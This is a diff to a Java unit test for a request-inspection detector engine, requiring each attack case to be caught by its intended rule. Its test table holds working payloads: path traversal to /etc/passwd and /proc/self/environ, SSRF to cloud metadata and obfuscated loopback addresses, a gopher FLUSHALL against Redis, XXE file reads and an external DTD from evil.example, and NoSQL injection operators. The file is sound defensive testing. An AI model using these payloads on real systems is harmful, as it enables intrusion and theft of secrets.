@@ -5,8 +5,11 @@ import static org.assertj.core.api.Assertions.assertThatCode;
 
 import ai.traceable.tme.engine.decode.Decoding;
 import java.util.ArrayList;
+import java.util.HashMap;
 import java.util.HashSet;
+import java.util.LinkedHashSet;
 import java.util.List;
+import java.util.Map;
 import java.util.Random;
 import java.util.Set;
 import org.junit.jupiter.api.Test;
@@ -15,59 +18,79 @@ import org.junit.jupiter.params.provider.CsvSource;
 
 /**
  * Single values through every shipped detector at paranoia 1: what must block (score of distinct
- * rules reaches 5) and what must pass.
+ * rules reaches 5, and the rule the case is written for is among them, so one detector cannot cover
+ * for another) and what must pass.
  */
 class DetectorsTest {
+  private static final Map<String, DetectionRule> RULES = rulesById();
 
-  static int score(Placement placement, String name, String raw) {
+  private static Map<String, DetectionRule> rulesById() {
+    Map<String, DetectionRule> rules = new HashMap<>();
+    Detectors.all().forEach(d -> d.rules().forEach(r -> rules.put(r.id(), r)));
+    return rules;
+  }
+
+  /** The paranoia-1 rules every shipped detector reported for one value, by id. */
+  static Set<String> rulesHit(Placement placement, String name, String raw) {
     Inspected value = new Inspected(placement, name, raw, Decoding.decode(raw, false));
-    Set<String> seen = new HashSet<>();
-    int[] score = {0};
+    Set<String> seen = new LinkedHashSet<>();
     for (Detector d : Detectors.all()) {
       d.inspect(
           value,
           (rule, snippet) -> {
-            if (rule.paranoia() == 1 && seen.add(rule.id())) {
-              score[0] += rule.severity().score();
+            if (rule.paranoia() == 1) {
+              seen.add(rule.id());
             }
           });
     }
-    return score[0];
+    return seen;
   }
 
-  @ParameterizedTest(name = "{0} {1}={2}")
+  /** The anomaly score of distinct paranoia-1 rules that matched one value. */
+  static int score(Placement placement, String name, String raw) {
+    int score = 0;
+    for (String id : rulesHit(placement, name, raw)) {
+      score += RULES.get(id).severity().score();
+    }
+    return score;
+  }
+
+  @ParameterizedTest(name = "{1} {2}={3} hits {0}")
   @CsvSource(
       delimiter = '|',
       textBlock =
           """
-          QUERY     | file     | ../../../../etc/passwd
-          QUERY     | file     | ..%2f..%2f..%2fetc%2fshadow
-          QUERY     | file     | ....//....//etc/passwd
-          QUERY     | file     | ..\\..\\windows\\win.ini
-          QUERY     | page     | php://filter/convert.base64-encode/resource=index.php
-          QUERY     | doc      | /proc/self/environ
-          PATH      |          | /static/../../etc/passwd
-          QUERY     | url      | http://169.254.169.254/latest/meta-data/
-          QUERY     | url      | http://2130706433/admin
-          QUERY     | url      | http://0177.0.0.1/
-          QUERY     | url      | http://0x7f000001:8080/
-          QUERY     | url      | http://[::ffff:127.0.0.1]/
-          QUERY     | url      | http://127.1/server-status
-          QUERY     | url      | gopher://127.0.0.1:6379/_FLUSHALL
-          QUERY     | url      | http://metadata.google.internal/computeMetadata/v1/
-          QUERY     | host     | 169.254.169.254
-          JSON      | webhook  | http://10.0.0.5:9200/_cat/indices
-          XML       | document | <?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>
-          XML       | document | <!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><r/>
-          JSON_KEY  | password | $ne
-          QUERY_NAME|          | password[$regex]
-          QUERY     | q        | {"$gt": ""}
-          HEADER    | user-agent | sqlmap/1.7.2#stable (https://sqlmap.org)
-          HEADER    | x-scanner  | yes
-          PATH      |          | /.git/config
+          traversal-100| QUERY     | file     | ../../../../etc/passwd
+          traversal-100| QUERY     | file     | ..%2f..%2f..%2fetc%2fshadow
+          traversal-100| QUERY     | file     | ....//....//etc/passwd
+          traversal-100| QUERY     | file     | ..\\..\\windows\\win.ini
+          traversal-130| QUERY     | page     | php://filter/convert.base64-encode/resource=index.php
+          traversal-120| QUERY     | doc      | /proc/self/environ
+          traversal-140| PATH      |          | /static/../../etc/passwd
+          ssrf-100     | QUERY     | url      | http://169.254.169.254/latest/meta-data/
+          ssrf-120     | QUERY     | url      | http://2130706433/admin
+          ssrf-120     | QUERY     | url      | http://0177.0.0.1/
+          ssrf-120     | QUERY     | url      | http://0x7f000001:8080/
+          ssrf-120     | QUERY     | url      | http://[::ffff:127.0.0.1]/
+          ssrf-120     | QUERY     | url      | http://127.1/server-status
+          ssrf-130     | QUERY     | url      | gopher://127.0.0.1:6379/_FLUSHALL
+          ssrf-100     | QUERY     | url      | http://metadata.google.internal/computeMetadata/v1/
+          ssrf-100     | QUERY     | host     | 169.254.169.254
+          ssrf-140     | JSON      | webhook  | http://10.0.0.5:9200/_cat/indices
+          xxe-100      | XML       | document | <?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>
+          xxe-110      | XML       | document | <!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><r/>
+          nosqli-100   | JSON_KEY  | password | $ne
+          nosqli-110   | QUERY_NAME|          | password[$regex]
+          nosqli-120   | QUERY     | q        | {"$gt": ""}
+          scanner-100  | HEADER    | user-agent | sqlmap/1.7.2#stable (https://sqlmap.org)
+          scanner-110  | HEADER    | x-scanner  | yes
+          scanner-130  | PATH      |          | /.git/config
           """)
-  void attacksBlock(Placement placement, String name, String raw) {
-    assertThat(score(placement, name == null ? "" : name, raw)).isGreaterThanOrEqualTo(5);
+  void attacksBlockThroughTheRuleMeantForThem(
+      String rule, Placement placement, String name, String raw) {
+    String field = name == null ? "" : name;
+    assertThat(rulesHit(placement, field, raw)).contains(rule);
+    assertThat(score(placement, field, raw)).isGreaterThanOrEqualTo(5);
   }
 
   @ParameterizedTest(name = "{0} {1}={2}")
